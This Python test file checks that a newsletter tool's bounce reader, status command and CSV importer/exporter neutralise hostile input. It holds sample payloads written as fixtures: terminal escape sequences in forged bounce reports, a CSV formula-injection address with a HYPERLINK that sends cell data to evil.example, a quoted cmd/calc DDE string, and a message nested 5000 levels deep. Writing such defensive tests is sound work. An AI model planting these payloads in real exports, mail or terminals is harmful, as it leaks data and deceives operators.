"""Text from outside reaching an operator's tools: their terminal, their spreadsheet, the importer, the bounce reader.

Anyone can subscribe through the site or mail the bounce address, so addresses, bounce reports
and SMTP replies are as hostile as the sender likes; so is a CSV file that came from elsewhere.
"""

from __future__ import annotations

import csv
import io
import logging
import quopri
import unicodedata
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text
from sqlmodel import Session

from pipeline import service
from pipeline.models import DeliveryStatus
from tests.support.bounces import (
    DAY,
    DOMAIN,
    MAIL_FROM,
    POSTFIX,
    UIDS,
    delivered,
    returned,
    run_bounces,
    sample,
)
from tests.support.cli import papermail

ESC = "\x1b"
# What a forged message would like a terminal to do: retitle the window, clear the screen,
# colour the rest through the 8-bit CSI (U+009B), and display the line backwards.
HOSTILE = f"{ESC}]0;owned\x07{ESC}[2J\u009b31m\u202e"


def terminal_controls(output: str) -> list[str]:
    """The characters of ``output`` a terminal would act on, other than the line ends between lines."""
    return [ch for ch in output if (unicodedata.category(ch) == "Cc" and ch != "\n")
            or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]


@pytest.fixture
def db(tmp_path, make_settings) -> str:
    """A SQLite database where the sample Postfix bounce's subscriber was sent the issue of DAY."""
    url = f"sqlite:///{tmp_path / 'papermail.db'}"
    with Session(service.engine(make_settings(database_url=url)), expire_on_commit=False) as session:
        delivered(session, "gone.reader@example.net")
    return url


def maildir_of(root: Path, *messages: bytes) -> Path:
    maildir = root / "Maildir"
    for sub in ("new", "cur", "tmp"):
        (maildir / sub).mkdir(parents=True)
    for i, raw in enumerate(messages):
        (maildir / "new" / f"17425404{i}.M{i}P1.mx").write_bytes(raw)
    return maildir


# --- item: control characters never reach the terminal ----------------------------------------


def forged_dsn() -> bytes:
    """An RFC 3464 report whose address, diagnostic and quoted Message-ID carry terminal escapes,
    and a raw 0x9B byte (CSI, to a terminal that reads 8-bit controls)."""
    return (
        f"From: MAILER-DAEMON@mx.example.net\nTo: bounces@{DOMAIN}\nSubject: Undelivered {ESC}[2J Mail\n"
        "Message-ID: <forged-1@mx.example.net>\nMIME-Version: 1.0\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n'
        "--b\nContent-Type: text/plain\n\nYour message could not be delivered.\n\n"
        "--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.net\n\n"
        f"Final-Recipient: rfc822; evil{ESC}[2J{ESC}]0;pwned\x07@example.org\nAction: failed\nStatus: 5.1.1\n\n"
        "Final-Recipient: rfc822; busy@example.org\nAction: delayed\nStatus: 4.2.2\n"
        f"Diagnostic-Code: smtp; 452 4.2.2 {ESC}]0;owned\x07{ESC}[2J\x9b31mmailbox full\n\n"
        f"--b\nContent-Type: text/rfc822-headers\n\nFrom: {MAIL_FROM}\n"
        f"Message-ID: <1.x{ESC}[31m@{DOMAIN}>\n\n--b--\n"
    ).encode("latin-1")


def forged_exim(message_id: str) -> bytes:
    """A plain-text bounce in quoted-printable UTF-8, so that the escapes it quotes as the server's reply
    arrive decoded, the C1 CSI (U+009B) and a right-to-left override among them; it counts."""
    reply = quopri.encodestring(f"    550 5.1.1 {HOSTILE}User unknown\n".encode()).decode()
    return (
        "X-Failed-Recipients: gone.reader@example.net\nFrom: Mail Delivery System <Mailer-Daemon@relay.example.com>\n"
        f"To: bounces@{DOMAIN}\nSubject: Mail delivery failed\nMessage-Id: <forged-2@relay.example.com>\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
        "This message was created automatically by mail delivery software.\n\n"
        "A message that you sent could not be delivered to one or more of its\n"
        "recipients. This is a permanent error. The following address(es) failed:\n\n"
        "  gone.reader@example.net\n    SMTP error from remote mail server after RCPT TO:<gone.reader@example.net>:\n"
        f"{reply}\n------ This is a copy of the message, including all the headers. ------\n\n"
        f"From: {MAIL_FROM}\nMessage-ID: <{message_id}>\nSubject: Trending papers\n\n"
    ).encode()


def test_a_forged_bounce_cannot_drive_the_terminal_of_whoever_reads_the_mailbox(tmp_path, db):
    ours = f"20250321.{UIDS['gone.reader@example.net']}@{DOMAIN}"
    result = run_bounces(tmp_path, db, str(maildir_of(tmp_path, forged_dsn(), forged_exim(ours))))
    assert terminal_controls(result.stdout + result.stderr) == []
    lines = result.stdout.splitlines()
    # Still reported, with the escapes taken out: the operator sees what came, and nothing happens.
    assert "evil[2j]0;pwned@example.org: not counted: <1.x[31m@papers.example.org> is not a message we sent" in lines
    assert "busy@example.org: temporary failure (4.2.2 ]0;owned[2J\ufffd31mmailbox full)" in lines
    assert "gone.reader@example.net: hard bounce 1/2 (5.1.1 ]0;owned[2J31mUser unknown)" in lines
    assert lines[-1].startswith("2 message(s), 2 bounce(s)") and "1 hard bounce(s) counted" in lines[-1]


def test_a_bounce_naming_a_made_up_charset_is_still_read_and_no_traceback_quotes_it(tmp_path, db):
    ours = f"20250321.{UIDS['gone.reader@example.net']}@{DOMAIN}"
    raw = forged_exim(ours).replace(b"charset=utf-8", f'charset="x{ESC}]0;owned\x07{ESC}[2J"'.encode())
    result = run_bounces(tmp_path, db, str(maildir_of(tmp_path, raw)))
    assert result.stderr == "" and terminal_controls(result.stdout) == []
    assert "gone.reader@example.net: hard bounce 1/2 (5.1.1 ]0;owned[2J" in result.stdout  # read as UTF-8


def test_status_prints_a_hostile_smtp_reply_without_its_escapes(tmp_path, db, make_settings):
    with Session(service.engine(make_settings(database_url=db)), expire_on_commit=False) as session:
        delivered(session, "reader@example.org", delivery=DeliveryStatus.failed)
    engine = create_engine(db)
    with engine.begin() as conn:
        conn.execute(text("UPDATE delivery SET last_error = :reply WHERE status = 'failed'"),
                     {"reply": f"550 5.1.1 {HOSTILE}no such user\r\nreader@example.org: sent"})
    engine.dispose()
    result = papermail(tmp_path, "status", "--date", DAY.isoformat(), env={"DATABASE_URL": db})
    assert terminal_controls(result.stdout + result.stderr) == []
    # The CR LF inside the reply cannot start a line of its own that looks like ours.
    [line] = [line for line in result.stdout.splitlines() if "no such user" in line]
    assert line.startswith("  failed    reader@example.org: 550 5.1.1 ]0;owned[2J31mno such user")
    assert line.endswith("no such user  reader@example.org: sent")


# --- item: the export cannot plant a formula in a spreadsheet ---------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_export_cannot_plant_a_formula_in_a_spreadsheet(tmp_path, start):
    papermail(tmp_path, "subscribers", "add", "plain@example.org", "planted@example.org")
    # As if it had come in before the site refused such addresses ("=cmd|' /C calc'!A0" and the like).
    planted = f'{start}HYPERLINK("https://evil.example/?"&A1)@example.org'
    engine = create_engine(f"sqlite:///{tmp_path / 'var' / 'papermail.db'}")
    with engine.begin() as conn:
        conn.execute(text("UPDATE subscriber SET email = :email WHERE email = 'planted@example.org'"),
                     {"email": planted})
    engine.dispose()
    papermail(tmp_path, "subscribers", "export", "--out", "subs.csv")
    with open(tmp_path / "subs.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["email"] for row in rows] == ["plain@example.org", "'" + planted]
    assert rows[1]["status"] == "active" and rows[1]["digest_size"] == rows[0]["digest_size"]  # the rest as it was
    stdout = papermail(tmp_path, "subscribers", "export").stdout
    cells = [row[0] for row in csv.reader(io.StringIO(stdout, newline=""))]  # (text mode reads a CR as LF)
    assert cells[1] == "plain@example.org" and cells[2].startswith("'") and cells[2].endswith(planted[1:])


# --- item: files and messages the importer and the bounce reader cannot read -------------------


def imported(tmp_path: Path) -> str:
    return papermail(tmp_path, "subscribers", "list").stdout


def test_a_csv_that_is_not_utf8_is_refused_in_one_line_and_nothing_is_imported(tmp_path):
    papermail(tmp_path, "init")
    name = f"from the shop{ESC}[2J.csv"  # a file name is outside text too
    (tmp_path / name).write_bytes("email,name\nada@example.org,Ada\nzoe@example.org,Zoë\n".encode("latin-1"))
    proc = papermail(tmp_path, "subscribers", "import", name, check=False)
    assert proc.returncode == 65 and "Traceback" not in proc.stderr and terminal_controls(proc.stderr) == []
    assert proc.stderr.count("\n") == 1
    assert proc.stderr.startswith("error: from the shop[2J.csv, line 3: not UTF-8 text (byte 0xeb")
    assert "save the file as CSV UTF-8" in proc.stderr and proc.stderr.rstrip().endswith("nothing was imported")
    assert imported(tmp_path) == ""  # not even line 2, which could be read


def test_a_csv_with_a_cell_over_the_field_limit_is_refused_in_one_line_and_nothing_is_imported(tmp_path):
    papermail(tmp_path, "init")
    (tmp_path / "big.csv").write_text(f"email,notes\nada@example.org,ok\nbob@example.org,{'x' * 200_000}\n"
                                      "cy@example.org,ok\n")
    proc = papermail(tmp_path, "subscribers", "import", "big.csv", check=False)
    assert proc.returncode == 65 and "Traceback" not in proc.stderr and proc.stderr.count("\n") == 1
    assert proc.stderr.startswith("error: big.csv, line 3: a cell is longer than 131072 characters")
    assert proc.stderr.rstrip().endswith("nothing was imported")
    assert imported(tmp_path) == ""
    # A quote left open runs a cell on over the lines after it: the line reported is where it starts.
    (tmp_path / "open.csv").write_text('email\nada@example.org\n"bob@example.org\n' + "cy@example.org\n" * 20_000)
    proc = papermail(tmp_path, "subscribers", "import", "open.csv", check=False)
    assert proc.returncode == 65 and proc.stderr.startswith("error: open.csv, line 3: a cell is longer than")
    assert imported(tmp_path) == ""


def nested(depth: int, inner: bytes) -> bytes:
    """``inner`` as the innermost part of ``depth`` multipart/mixed parts, one inside the other."""
    head = b"From: Mail Delivery <mailer-daemon@mx.example.net>\nSubject: deep\nMIME-Version: 1.0\n"
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="n%d"\n\n--n%d\n' % (i, i) for i in range(depth))
    closing = b"".join(b"\n--n%d--\n" % i for i in reversed(range(depth)))
    return head + opening + inner + closing


def test_a_message_nested_five_thousand_deep_is_one_line_and_the_rest_of_the_mailbox_is_read(tmp_path, db):
    deep = nested(5000, b"Content-Type: text/plain\n\nhello\n")
    result = run_bounces(tmp_path, db, str(maildir_of(tmp_path, deep, sample(POSTFIX))))
    assert result.stderr == ""
    lines = result.stdout.splitlines()
    assert lines[0] == ("mailer-daemon@mx.example.net: not counted: the message is too deeply nested to read "
                        "(its parts go more than 50 levels deep)")
    assert lines[1].startswith("gone.reader@example.net: hard bounce 1/2 (5.1.1 ")
    assert lines[-1].startswith("2 message(s), 1 bounce(s)") and "1 not counted" in lines[-1]


def test_beat_reads_past_a_message_nested_too_deeply(tmp_path, db, make_settings, caplog):
    cfg = make_settings(database_url=db, mail_from=MAIL_FROM)
    deep = nested(5000, returned("gone.reader@example.net", f"20250321.{UIDS['gone.reader@example.net']}@{DOMAIN}"))
    handled = service.handle_inbound(cfg, deep, record=False)  # the handler the command and the task share
    assert handled.kind == "other" and [(line.address, line.text) for line in handled.lines] == [
        ("mailer-daemon@mx.example.net", "not counted: the message is too deeply nested to read "
                                         "(its parts go more than 50 levels deep)")]

    maildir = maildir_of(tmp_path, deep, sample(POSTFIX))
    with caplog.at_level(logging.DEBUG):
        kinds = service.read_inbound(make_settings(database_url=db, mail_from=MAIL_FROM, inbound_maildir=maildir))
    assert kinds == {"other": 1, "bounce": 1}
    assert sorted(p.name for p in (maildir / "cur").iterdir()) == ["174254040.M0P1.mx:2,S", "174254041.M1P1.mx:2,S"]
    # Refused by the bound, not by running into Python's recursion limit.
    assert not [r for r in caplog.records if r.exc_info and isinstance(r.exc_info[1], RecursionError)]
